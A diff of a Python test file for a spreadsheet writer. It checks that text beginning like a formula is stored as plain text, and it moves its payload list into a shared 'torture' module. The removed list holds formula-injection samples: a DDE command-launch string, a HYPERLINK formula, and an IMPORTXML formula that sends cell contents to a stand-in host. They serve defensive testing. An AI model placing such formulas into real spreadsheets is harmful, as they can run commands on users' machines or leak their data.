@@ -1,7 +1,4 @@
-"""Text that begins like a formula stays text in every writer, and reads back as it was.
-
-Source of the list: OWASP, CSV Injection; full-width signs as Excel takes them under a Chinese input method.
-"""
+"""Text that begins like a formula stays text in every writer, and reads back as it was; `torture` has the list."""
 
 from __future__ import annotations
 
@@ -26,12 +23,9 @@ from tests.books.samples import book
 from tests.builder.shipped import opened
 from tests.support.fake_excel import Formula
 from tests.support.fake_xlwings import FakeExcel
+from torture.payloads import PAYLOADS, faults, try_payloads
+from torture.survive import Figures
 
-PAYLOADS = (
-    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","点我")', "+1+1", "-1+1", "@SUM(1,1)",
-    "＝1+1", "＋1", "－1", "＠SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1', "=", "+", "-", "@",
-    "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "+86 10 8765", "-负数", "@张伟", "=①",
-)  # fmt: skip
 HEADINGS = ("编号", "内容")
 
 
@@ -106,3 +100,23 @@ def test_a_csv_beside_the_book_holds_no_formula(written: Path, monkeypatch: pyte
     ]
     assert [cell.removeprefix("'") if cell != text else cell for (_, cell), text in zip(lines[1:], PAYLOADS, strict=True)
             ] == list(PAYLOADS)  # fmt: skip
+
+
+def test_what_is_written_does_no_more_than_with_harmless_texts() -> None:
+    figures = Figures()
+    try_payloads(
+        figures, ["a table", "an import", "a masked copy", "a new workbook", "a file beside the workbook"]
+    )
+    assert figures.wrong == []
+    assert figures.counts["payloads tried"] == 5 * len(PAYLOADS)
+
+
+def test_a_writer_that_lets_one_through_is_found_out(tmp_path: Path) -> None:
+    harmless, harmful = tmp_path / "a", tmp_path / "b"
+    for folder, cell in ((harmless, "1"), (harmful, ("=1+1", 2))):
+        folder.mkdir()
+        book(folder / "a.xlsx", {"tblX": ("表", 1, 1, ["甲"], [[cell]])})
+        (folder / "a.csv").write_text("甲\n1\n", encoding="utf-8")
+    assert list(faults(harmful, harmless)) == ["f  0+0"]
+    (harmful / "a.csv").write_text("甲\n\u3000=1\n", encoding="utf-8")
+    assert any("a.csv holds" in fault for fault in faults(harmful, harmless))
